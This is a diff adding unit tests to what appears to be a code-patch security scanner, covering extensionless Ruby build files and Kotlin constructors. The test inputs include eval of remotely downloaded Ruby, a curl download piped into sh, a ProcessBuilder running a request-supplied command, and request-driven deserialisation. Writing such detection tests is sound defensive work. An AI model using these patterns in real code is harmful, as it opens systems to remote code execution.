@@ -2777,3 +2777,28 @@ describe('tls-verification-disabled: JVM host-name verifiers and trust managers 
     expect(tls('src/main/java/acme/Http.java', ['    HttpsURLConnection.setDefaultHostnameVerifier(new DefaultHostnameVerifier());'])).toEqual([]);
   });
 });
+
+describe('Ruby files without an extension, and Kotlin constructors without new', () => {
+  const found = (path: string, added: readonly string[]) => scan([makeFile(path, { patch: hunk(added) })]).map((f) => `${f.id}:${f.severity}`);
+
+  it('reads a Rakefile, Vagrantfile, Fastfile or Guardfile as Ruby: eval of a download is dynamic code execution', () => {
+    for (const path of ['Rakefile', 'Vagrantfile', 'fastlane/Fastfile', 'Guardfile']) {
+      expect(found(path, ["eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)"]), path).toContain('dynamic-code-execution:high');
+    }
+  });
+
+  it('leaves a download piped into a shell in a Rakefile to curl-pipe-shell\'s task reader: one finding, not two', () => {
+    expect(found('Rakefile', ["system('curl -s https://cdn.tooling-mirror.dev/e.sh | sh')"]).filter((f) => f.startsWith('curl-pipe-shell'))).toEqual([]);
+  });
+
+  it('is quiet on ordinary Rakefile tasks, and still ignores a file named like none of them', () => {
+    expect(found('Rakefile', ["require 'bundler/gem_tasks'", 'task default: :spec', "task :docs do", "  sh 'yard doc'", 'end'])).toEqual([]);
+    expect(found('Rakefile.orig', ["eval(URI.open('https://cdn.tooling-mirror.dev/r.rb').read)"])).toEqual([]);
+  });
+
+  it('reads a Kotlin ProcessBuilder and ObjectInputStream, called without new', () => {
+    expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilder("sh", "-c", request.getParameter("cmd")).start()'])).toContain('shell-command-execution:high');
+    expect(found('src/main/kotlin/acme/Load.kt', ['    val o = ObjectInputStream(request.getInputStream()).readObject()'])).toContain('unsafe-deserialization:high');
+    expect(found('src/main/kotlin/acme/Run.kt', ['    val p = ProcessBuilderFactory.create()'])).toEqual([]);
+  });
+});
